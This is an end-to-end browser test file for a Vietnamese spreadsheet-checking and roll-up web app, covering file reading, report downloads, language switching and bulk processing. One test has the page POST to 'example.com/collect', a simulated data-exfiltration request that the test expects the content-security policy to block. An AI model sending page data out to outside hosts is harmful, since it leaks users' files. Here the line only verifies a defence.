import { readFile } from "node:fs/promises";
import path from "node:path";
import type { Page } from "playwright-core";
import { checkSources, type Source } from "../../src/domain/check/batch";
import type { RawCell } from "../../src/domain/read/values";
import { rollUp, type Rollup } from "../../src/domain/rollup/rollup";
import { readWorkbookSnapshot, sourceFromRead } from "../../src/files/readXlsx";
import { demoFiles, DEMO_YEAR } from "../../src/page/outputs";
import { catalogue, registry } from "../support/filled";
import { axeViolations, DIST, recordRequests, shot, E2E_STEP_MS, E2E_TEST_MS, withBrowser } from "./browser";
import { say } from "../../src/domain/i18n/say";

const FIXTURES = path.join(__dirname, "../fixtures");
const OPENED = ["truncated.xlsx", "template-ten-mistakes.xlsx", "not-a-workbook.xlsx"];
const SHOTS = "page";

const running = withBrowser();

async function sourcesOf(files: readonly { name: string; bytes: Uint8Array }[]): Promise<Source[]> {
  return Promise.all(files.map(async (f) => sourceFromRead(f.name, await readWorkbookSnapshot(f.bytes))));
}

/** The roll-up of the same inbox, computed here with the domain core from the files themselves. */
async function expectedRollup(): Promise<{ rollup: Rollup; sources: Source[] }> {
  const fixtures = await Promise.all(
    OPENED.map(async (name) => ({ name, bytes: new Uint8Array(await readFile(path.join(FIXTURES, name))) })),
  );
  const sources = await sourcesOf([...(await demoFiles()), ...fixtures]);
  const checked = checkSources(sources, catalogue, registry, { expectedYear: DEMO_YEAR });
  return { rollup: rollUp(catalogue, registry, DEMO_YEAR, checked.submissions, checked.findings), sources };
}

async function openPage(): Promise<{ page: Page; requests: string[] }> {
  const context = await running.browser.newContext({
    locale: "vi-VN",
    viewport: { width: 1280, height: 900 },
  });
  context.setDefaultTimeout(E2E_STEP_MS);
  const page = await context.newPage();
  const requests = recordRequests(page);
  await page.goto(`${running.server.origin}/app.html`);
  return { page, requests };
}

test(
  "the sample inbox and three fixtures: a broken file named with its reason, the rest rolled up, the report's figures those of the domain roll-up",
  async () => {
    const { page, requests } = await openPage();
    const expected = expectedRollup();
    await page.getByRole("heading", { name: "DVCQ — không cần Excel" }).waitFor();
    await shot(page, SHOTS, "1-empty");
    expect(await axeViolations(page)).toEqual([]);

    await page.getByRole("button", { name: "Dùng bộ dữ liệu mẫu" }).click();
    const files = page.getByRole("table", { name: "Các tệp đã mở" });
    await files.waitFor({ timeout: 30_000 });
    await page.getByTestId("file-input").setInputFiles(OPENED.map((f) => path.join(FIXTURES, f)));
    await page.getByText(`Đã mở ${OPENED.length} tệp.`).waitFor();
    const { rollup, sources } = await expected;
    expect(await files.getByRole("row").count()).toBe(sources.length + 1);

    // Each unreadable fixture is listed with the sentence the reader gives it.
    for (const name of ["truncated.xlsx", "not-a-workbook.xlsx"]) {
      const source = sources.find((s) => s.name === name);
      if (source === undefined || !("unreadable" in source)) throw new Error(`${name} should be unreadable`);
      const row = files.getByRole("row").filter({ hasText: name });
      expect(await row.textContent()).toContain(source.unreadable.vi);
    }
    await shot(page, SHOTS, "2-files");

    await page.getByRole("button", { name: "Xem template-ten-mistakes.xlsx" }).click();
    const findings = page.getByRole("heading", { name: /^Kết quả kiểm tra: template-ten-mistakes\.xlsx/ });
    await findings.waitFor();
    const firstCellFinding = page.getByRole("button", { name: /R\d\d · [A-Z]+\d+/ }).first();
    const cell = /· ([A-Z]+\d+)/.exec((await firstCellFinding.textContent()) ?? "")?.[1];
    await firstCellFinding.click();
    const sheet = page.getByRole("region", { name: /^Trang mẫu biểu \(chỉ xem\)/ });
    await expect(
      sheet.locator(`td[data-cell="${cell}"]`).evaluate((td) => td === document.activeElement),
    ).resolves.toBe(true);
    await shot(page, SHOTS, "3-findings-and-sheet");
    expect(await axeViolations(page)).toEqual([]);

    await page.getByRole("button", { name: `Tổng hợp năm ${DEMO_YEAR}` }).click();
    const received = rollup.units.filter((u) => u.kept !== null).length;
    const onTime = rollup.units.filter((u) => u.onTime === true).length;
    await page
      .getByRole("status")
      .filter({
        hasText: `Năm ${DEMO_YEAR}: nhận ${received}/${rollup.units.length} đơn vị, ${onTime} đúng hạn.`,
      })
      .waitFor();
    const unused = page.getByRole("list", { name: "Tệp không dùng được trong tổng hợp" });
    for (const u of rollup.unusedFiles)
      expect(await unused.textContent()).toContain(`${u.file}: ${say(u.message, "vi")}`);
    expect(rollup.unusedFiles.map((u) => u.file)).toEqual(
      expect.arrayContaining(["truncated.xlsx", "not-a-workbook.xlsx"]),
    );
    await shot(page, SHOTS, "4-rollup");
    expect(await axeViolations(page)).toEqual([]);

    const [report] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: /^Tải báo cáo tổng hợp/ }).click(),
    ]);
    expect(report.suggestedFilename()).toBe(`DVCQ_${DEMO_YEAR}_TongHop.xlsx`);
    const read = await readWorkbookSnapshot(new Uint8Array(await readFile(await report.path())));
    if (!read.ok) throw new Error(`the downloaded report does not read: ${read.message.en}`);
    const sheetOf = read.workbook.sheets.find((s) => s.name === "Báo cáo tổng hợp");
    if (sheetOf === undefined) throw new Error("the report has no “Báo cáo tổng hợp” sheet");
    const rowOf = new Map<string, number>();
    for (const [ref, c] of sheetOf.cells)
      if (ref.startsWith("A") && typeof c.value === "string") rowOf.set(c.value, Number(ref.slice(1)));
    const value = (c: RawCell | undefined) => (c === undefined || c.value === "" ? null : c.value);
    let compared = 0;
    for (const r of rollup.indicators) {
      const row = rowOf.get(r.indicator.code);
      if (row === undefined) throw new Error(`indicator ${r.indicator.code} is not in the report`);
      expect([r.indicator.code, value(sheetOf.cells.get(`G${row}`))]).toEqual([
        r.indicator.code,
        r.reported.all,
      ]);
      for (const [col, level] of [
        ["D", "all"],
        ["E", "X"],
        ["F", "C"],
      ] as const) {
        const figure = r.value[level];
        if (typeof figure !== "number") continue;
        expect([r.indicator.code, level, value(sheetOf.cells.get(`${col}${row}`))]).toEqual([
          r.indicator.code,
          level,
          figure,
        ]);
        compared++;
      }
    }
    expect(compared).toBeGreaterThan(100);

    const [csv] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: /^Tải dữ liệu chi tiết/ }).click(),
    ]);
    const text = await readFile(await csv.path(), "utf8");
    expect(text.startsWith("\uFEFFNăm,Mã đơn vị,Tên đơn vị")).toBe(true);
    expect(text.split("\r\n")).toHaveLength(rollup.facts.length + 1);

    expect(
      requests.filter((url) => !url.startsWith(`${running.server.origin}/`) && !url.startsWith("blob:")),
    ).toEqual([]);
    await page.context().close();
  },
  E2E_TEST_MS,
);

test(
  "English by the browser's language and by the switch; a template for a unit downloads as the command line writes it",
  async () => {
    const context = await running.browser.newContext({ locale: "en-US" });
    context.setDefaultTimeout(E2E_STEP_MS);
    const page = await context.newPage();
    await page.goto(`${running.server.origin}/app.html`);
    await page.getByRole("heading", { name: "DVCQ — without Excel" }).waitFor();
    await page.getByRole("button", { name: "Chuyển sang tiếng Việt" }).click();
    await page.getByRole("heading", { name: "DVCQ — không cần Excel" }).waitFor();
    const year = page.getByRole("textbox", { name: /^Năm báo cáo/ });
    await year.fill("2024");
    await page.getByRole("combobox", { name: /^Đơn vị/ }).fill("Xã Xuân Hòa");
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Tải mẫu biểu (.xlsx)" }).click(),
    ]);
    expect(download.suggestedFilename()).toBe("DVCQ_2024_XA-XUAN-HOA.xlsx");
    const read = await readWorkbookSnapshot(new Uint8Array(await readFile(await download.path())));
    if (!read.ok) throw new Error(read.message.en);
    const checked = checkSources([sourceFromRead("t.xlsx", read)], catalogue, registry, {
      expectedYear: 2024,
    });
    expect(
      checked.submissions.map((s) => [s.submission.sheet, s.submission.unit?.code, s.submission.year]),
    ).toEqual([["XA-XUAN-HOA 2024", "XA-XUAN-HOA", 2024]]);
    await context.close();
  },
  E2E_TEST_MS,
);

test(
  "opened from the file system (file://) the page still reads files, on its own thread",
  async () => {
    const context = await running.browser.newContext({ locale: "vi-VN" });
    context.setDefaultTimeout(E2E_STEP_MS);
    const page = await context.newPage();
    await page.goto(`file://${path.join(DIST, "app.html")}`);
    await page.getByTestId("file-input").setInputFiles([path.join(FIXTURES, "template-ten-mistakes.xlsx")]);
    await page.getByText("Đã mở 1 tệp.").waitFor();
    const row = page
      .getByRole("table", { name: "Các tệp đã mở" })
      .getByRole("row")
      .filter({ hasText: "template-ten-mistakes.xlsx" });
    expect(await row.textContent()).toContain("XA-XUAN-HOA");
    await context.close();
  },
  E2E_TEST_MS,
);

test(
  "the page's content-security policy: its own files only, no Office.js host, and a request elsewhere is refused",
  async () => {
    const html = await readFile(path.join(DIST, "app.html"), "utf8");
    const policy = /http-equiv="?Content-Security-Policy"? content="([^"]+)"/.exec(html)?.[1] ?? "";
    const directives = new Map(
      policy
        .split(";")
        .map((d) => d.trim().split(/\s+/))
        .map(([k, ...v]) => [k, v]),
    );
    expect(directives.get("default-src")).toEqual(["'self'"]);
    expect(directives.get("script-src")).toEqual(["'self'"]);
    expect(directives.get("connect-src")).toEqual(["'self'"]);
    expect(policy).not.toContain("appsforoffice");

    const { page, requests } = await openPage();
    await page.getByRole("heading", { name: "DVCQ — không cần Excel" }).waitFor();
    const outcome = await page.evaluate(() =>
      fetch("https://example.com/collect", { method: "POST", body: "x" }).then(
        () => "sent",
        () => "refused",
      ),
    );
    expect(outcome).toBe("refused");
    expect(requests.filter((url) => !url.startsWith(`${running.server.origin}/`))).toEqual([]);
    await page.context().close();
  },
  E2E_TEST_MS,
);

test(
  "300 files: read on the worker with a progress bar, the page answering meanwhile; Dừng stops, and all 300 open when let run",
  async () => {
    const demo = await demoFiles();
    // 300 distinct files, as a province's inbox would hold: the demo's workbooks under 300 names.
    const files = Array.from({ length: 300 }, (_, i) => {
      const f = demo[i % demo.length] as { name: string; bytes: Uint8Array };
      return {
        name: f.name.replace(/\.xlsx$/, `_${String(i + 1).padStart(3, "0")}.xlsx`),
        mimeType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        buffer: Buffer.from(f.bytes),
      };
    });
    const { page } = await openPage();
    await page.getByRole("heading", { name: "DVCQ — không cần Excel" }).waitFor();
    const input = page.getByTestId("file-input");

    await input.setInputFiles(files);
    await page.getByText(/^Đang đọc \d+\/300: /).waitFor();
    // While the files are read the page still answers the clerk: the language switches, and back.
    await page.getByRole("button", { name: "Switch to English" }).click();
    await page.getByRole("heading", { name: "DVCQ — without Excel" }).waitFor();
    await page.getByRole("button", { name: "Chuyển sang tiếng Việt" }).click();
    await page.getByRole("heading", { name: "DVCQ — không cần Excel" }).waitFor();
    await shot(page, SHOTS, "5-reading-300");
    await page.getByRole("button", { name: "Dừng" }).click();
    const stopped = page.getByText(/^Đã mở \d+\/300 tệp \(đã dừng\)\.$/);
    await stopped.waitFor();
    const readBeforeStop = Number(/^Đã mở (\d+)\//.exec((await stopped.textContent()) ?? "")?.[1]);
    expect(readBeforeStop).toBeLessThan(300);
    const table = page.getByRole("table", { name: "Các tệp đã mở" });
    expect(await table.getByRole("row").count()).toBe(readBeforeStop + 1);

    // The same 300 again: those already open are the same bytes, named and not opened twice.
    await input.setInputFiles(files);
    await page
      .getByText(
        readBeforeStop === 0
          ? "Đã mở 300 tệp."
          : new RegExp(`^Đã mở ${300 - readBeforeStop}/300 tệp\\. Đã có sẵn, giống hệt nên không mở lại: `),
        { exact: true },
      )
      .waitFor();
    expect(await table.getByRole("row").count()).toBe(301);
    await page.context().close();
  },
  E2E_TEST_MS,
);
